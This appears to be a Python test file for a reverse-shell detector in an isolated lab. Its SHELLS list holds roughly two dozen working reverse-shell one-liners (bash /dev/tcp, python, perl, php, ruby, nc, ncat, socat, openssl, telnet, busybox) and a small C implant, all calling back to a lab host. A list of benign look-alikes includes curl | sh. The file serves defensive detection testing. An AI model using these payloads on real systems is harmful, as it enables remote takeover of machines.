#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Reverse shells of real tools, each found within a second of the shell answering; what looks like one and is none."""
import os
import shutil
import sys
import time

import lab
from lab import S4

CASES = lab.golden.Cases()
LIMIT = 1.0     # seconds, from when the shell answers to when it is told

PYTHON = f"import socket,os,pty,subprocess;s=socket.socket();s.connect(('{S4}',PORT));"
DUP = "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
PERL = (f'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        f'connect(S,sockaddr_in(PORT,inet_aton("{S4}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");')
FIFO = "rm -f f.PORT; mkfifo f.PORT; "

# name, tool that must be there, programs that the finding may name, command; PORT is replaced. A second port is PORT + 1.
SHELLS = [
    ("bash -i at /dev/tcp", "bash", ("bash",), f"bash -i >& /dev/tcp/{S4}/PORT 0>&1"),
    ("bash, exec its own descriptors", "bash", ("bash",), f"exec 0<>/dev/tcp/{S4}/PORT 1>&0 2>&0; read a; eval $a; read b; eval $b; read c"),
    ("bash, sh on descriptor 196", "bash", ("bash",), f"0<&196;exec 196<>/dev/tcp/{S4}/PORT; sh <&196 >&196 2>&196"),
    ("bash, read line by line", "bash", ("bash",),
     f"exec 5<>/dev/tcp/{S4}/PORT; cat <&5 | while read l; do /bin/sh -c \"$l\" 2>&5 >&5; done"),
    ("zsh ztcp", "zsh", ("zsh",), f"exec zsh -c 'zmodload zsh/net/tcp && ztcp {S4} PORT && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    ("python3 dup2, sh", "/usr/bin/python3", ("python3",), f"exec /usr/bin/python3 -c \"{PYTHON}{DUP}subprocess.call(['/bin/sh','-i'])\""),
    ("python3 pty.spawn", "/usr/bin/python3", ("python3",), f"exec /usr/bin/python3 -c \"{PYTHON}{DUP}pty.spawn('/bin/sh')\""),
    ("perl", "perl", ("perl",), f"exec perl -e '{PERL}exec(\"/bin/sh -i\");'"),
    ("php", "php", ("php",), f"exec php -r '$s=fsockopen(\"{S4}\",PORT);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("ruby", "ruby", ("ruby",), f"exec ruby -rsocket -e 's=TCPSocket.new(\"{S4}\",PORT);[$stdin,$stdout,$stderr].each{{|f|f.reopen(s)}};exec(\"/bin/sh -i\")'"),
    ("ruby, spawn", "ruby", ("ruby",), f"exec ruby -rsocket -e 's=TCPSocket.new(\"{S4}\",PORT);spawn(\"/bin/sh\",:in=>s,:out=>s,:err=>s);sleep'"),
    ("gawk /inet", "gawk", ("gawk",),
     f"exec gawk 'BEGIN{{s=\"/inet/tcp/0/{S4}/PORT\";while(1){{if((s|&getline c)<=0)break;while((c|&getline)>0)print $0|&s;close(c)}}}}'"),
    ("nc.traditional -e", "nc.traditional", ("nc.traditional",), f"exec nc.traditional {S4} PORT -e /bin/sh"),
    ("nc.traditional and a fifo", "nc.traditional", ("nc.traditional",), FIFO + f"cat f.PORT | sh -i 2>&1 | nc.traditional {S4} PORT > f.PORT"),
    ("nc.traditional and a fifo, no cat", "nc.traditional", ("nc.traditional",), FIFO + f"sh -i < f.PORT 2>&1 | nc.traditional {S4} PORT > f.PORT"),
    ("bash coproc nc", "nc.traditional", ("nc.traditional",), f"coproc nc.traditional {S4} PORT; sh <&${{COPROC[0]}} >&${{COPROC[1]}} 2>&1"),
    ("ncat -e", "ncat", ("ncat",), f"exec ncat {S4} PORT -e /bin/bash"),
    ("ncat --sh-exec", "ncat", ("ncat",), f"exec ncat {S4} PORT -c '/bin/sh -i'"),
    ("ncat --ssl -e", "ncat", ("ncat",), f"exec ncat --ssl {S4} TLSPORT -e /bin/sh"),
    ("socat EXEC", "socat", ("socat",), f"exec socat TCP:{S4}:PORT EXEC:/bin/sh"),
    ("socat EXEC pipes", "socat", ("socat",), f"exec socat TCP:{S4}:PORT EXEC:/bin/sh,pipes,stderr"),
    ("socat pty, shell first", "socat", ("socat",), f"exec socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:{S4}:PORT"),
    ("socat SYSTEM, OpenSSL", "socat", ("socat",), f"exec socat OPENSSL:{S4}:TLSPORT,verify=0 SYSTEM:sh"),
    ("openssl s_client and a fifo", "openssl", ("openssl",), FIFO + f"sh -i < f.PORT 2>&1 | openssl s_client -quiet -connect {S4}:TLSPORT > f.PORT"),
    ("telnet and a fifo", "telnet", ("telnet", "inetutils-telnet"), FIFO + f"sh -i < f.PORT 2>&1 | telnet {S4} PORT > f.PORT"),
    ("busybox nc -e", "busybox", ("busybox",), f"exec busybox nc {S4} PORT -e /bin/sh"),
    ("a program of its own", "gcc", ("implant",), "exec ./implant PORT"),
]

IMPLANT = f"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>
int main(int n, char **v)
{{
	struct sockaddr_in a = {{ .sin_family = AF_INET, .sin_port = htons(atoi(v[n - 1])) }};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, "{S4}", &a.sin_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)))
		return 1;
	for (int i = 0; i < 3; i++)
		dup2(s, i);
	return execl("/bin/sh", "sh", (char *)0);
}}
"""


def c2_log(server, port, word, after):
    """The time of the first line of the far end that begins with `word`."""
    with open(server.log, encoding="ascii") as f:
        times = [float(x.split()[1]) for x in f if x.startswith(word + " ")]
    return next((t for t in times if t >= after), None)


def shell(n, d, tls, i, name, programs, command):
    port = 4000 + 2 * i
    text = command.replace("TLSPORT", str(port)).replace("PORT", str(port))
    server = n.small_server("c2", port, False, *(tls if "TLSPORT" in command else ()))
    begin = time.time()
    n.start("bash", "-c", text, ns=n.client, watched=True)
    try:
        up = lab.wait_for(f"{name} to answer", lambda: c2_log(server, port, "shell", begin), 15)
    except TimeoutError as e:
        CASES.check(f"{name}: a shell", False, e, open(server.log).read(), n.children[-1].log)
        n.empty_processes()
        return
    found = d.told(f"{S4}:{port}", LIMIT + 4)
    took = found[0] - up if found else None
    records = [r for r in d.findings() if r.get("dest_port") == port]
    good = [r for r in records if r["egret"]["finding"]["detector"] == "shell"]
    f = good[0]["egret"]["finding"] if good else {}
    who = os.path.basename(f.get("entity", "").split(" (")[0])
    line = (f"{name}: found {took if took is None else round(took, 2)} s after the shell answered, as "
                f"{f.get('level')} {f.get('class')} {f.get('score_db')} dB of {who}")
    print(line)
    CASES.check(line, took is not None and took <= LIMIT and f.get("class") == "c2" and f.get("level") in ("high", "critical") and
                any(who.startswith(p) for p in programs), found, records)
    n.empty_processes()
    n.stop(server)


# What must not be found. Each runs to its end.
ORDINARY = [
    ("curl … | sh", f"curl -s http://{S4}/script | sh"),
    ("sh -c with its output to nc", f"sh -c 'uname -a; id' | nc.traditional -q 1 -w 2 {S4} 7001"),
    ("a terminal's output to nc", f"df | nc.traditional -q 0 -w 2 {S4} 7001"),
    ("nc through a shell, as a ProxyCommand", f"echo hello | sh -c 'nc.traditional -q 1 -w 2 {S4} 7003' > /dev/null"),
    ("HTTP by bash", f"exec 3<>/dev/tcp/{S4}/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null"),
    ("a report by bash", f"( date; df; id ) > /dev/tcp/{S4}/7001"),
    ("a report by bash, with its errors", f"( date; df; id ) > /dev/tcp/{S4}/7001 2>&1"),
    ("bash reads a banner", f"head -c 5 < /dev/tcp/{S4}/7005 > /dev/null"),
    ("openssl s_client in a pipe", f"echo Q | openssl s_client -connect {S4}:443 2>/dev/null | sh -c 'cat > /dev/null'"),
    ("an agent: python runs shells on pipes", "exec /usr/bin/python3 -c \"import socket,subprocess\n"
     f"s=socket.create_connection(('{S4}',7003))\nfor c in ('id','uname','df'):\n"
     " p=subprocess.Popen(c,shell=True,stdin=subprocess.PIPE,stdout=subprocess.PIPE); s.sendall(p.communicate()[0]); s.recv(999)\""),
    ("an agent: python runs a shell on a terminal", "exec /usr/bin/python3 -c \"import socket,pty\n"
     f"s=socket.create_connection(('{S4}',7003)); s.sendall(b'x'); s.recv(9); pty.spawn(['/bin/sh','-c','id'])\""),
    ("a coprocess that speaks through openssl", f"coproc openssl s_client -quiet -connect {S4}:443 2>/dev/null; "
     "printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&${COPROC[1]}; head -3 <&${COPROC[0]} > /dev/null"),
    ("socat to a terminal's end", f"echo x | socat -t1 - TCP:{S4}:7003 > /dev/null"),
    ("git clone by a helper of shells", f"GIT_SSL_NO_VERIFY=1 git ls-remote https://{S4}/repo.git >/dev/null 2>&1; true"),
    ("a loop over an answer of nc", f"nc.traditional -w 2 {S4} 7005 | head -c 100 | while read l; do echo $l; done > /dev/null"),
]


def ordinary(n, d):
    before = d.findings()
    ssh = n.dropbear()
    remote = f"root@{S4}"
    over_ssh = [
        ("ssh HOST COMMAND", f"{ssh} {remote} 'id; sh -c uname' > /dev/null"),
        ("ssh HOST with a script as input", f"echo 'id; uname' | {ssh} {remote} sh > /dev/null"),
        ("ssh through nc", f"{ssh} -o ProxyCommand='nc.traditional %h %p' {remote} id > /dev/null"),
        ("ssh through socat", f"{ssh} -o ProxyCommand='socat - TCP:%h:%p' {remote} id > /dev/null"),
        ("ssh through a shell and nc", f"{ssh} -o ProxyCommand='sh -c \"nc.traditional %h %p; true\"' {remote} id > /dev/null"),
        ("scp", f"scp -O {ssh[4:].replace('-p ', '-P ')} /etc/passwd {remote}:passwd"),
        ("git over ssh", f"git init -q --bare r.git; GIT_SSH_COMMAND='{ssh}' git ls-remote {remote}:{n.tmp}/r.git"),
    ]
    if shutil.which("rsync"):
        over_ssh.append(("rsync", f"rsync -e '{ssh}' /etc/passwd {remote}:passwd2"))
    for name, command in ORDINARY + over_ssh:
        tool = "nc.traditional" if "nc.traditional" in command else "bash"
        if not shutil.which(tool):
            CASES.skip(name, f"no {tool} here")
            continue
        n.run("timeout", "20", "bash", "-c", command, check=(name, command) in over_ssh)
    time.sleep(1.2)                 # a look at what has just begun
    known = {r["egret"]["finding"]["id"] for r in before}
    for r in d.findings():
        f = r["egret"]["finding"]
        if f["id"] not in known:
            CASES.check(f"ordinary use of shells is not found: {f['explain']}", f["detector"] != "shell", f)
    CASES.check(f"{len(ORDINARY) + len(over_ssh)} ordinary uses of shells and connections went by", True)


def main():
    lab.need(CASES, "gcc", "socat", "openssl", "dropbear", "ssh", "git")
    n = lab.Lab("she")
    try:
        n.nginx()
        with open(os.path.join(n.tmp, "www", "script"), "w", encoding="ascii") as f:
            f.write("id > /dev/null; sh -c 'uname > /dev/null'\n")
        tls = os.path.join(n.tmp, "crt.pem"), os.path.join(n.tmp, "key.pem")
        n.sink(7001)
        n.echo(7003)
        n.small_server("source", 7005)
        with open(os.path.join(n.tmp, "implant.c"), "w", encoding="ascii") as f:
            f.write(IMPLANT)
        lab.must("gcc", "-o", os.path.join(n.tmp, "implant"), os.path.join(n.tmp, "implant.c"))
        d = n.daemon()
        ordinary(n, d)
        for i, (name, tool, programs, command) in enumerate(SHELLS):
            if not shutil.which(tool):
                CASES.skip(name, f"no {tool} here")
                continue
            shell(n, d, tls, i, name, programs, command)
        d.stop()
        lab.golden.check_schema(CASES, "records of shells", d.lines())
    finally:
        n.close()
    return CASES.end()


sys.exit(main())
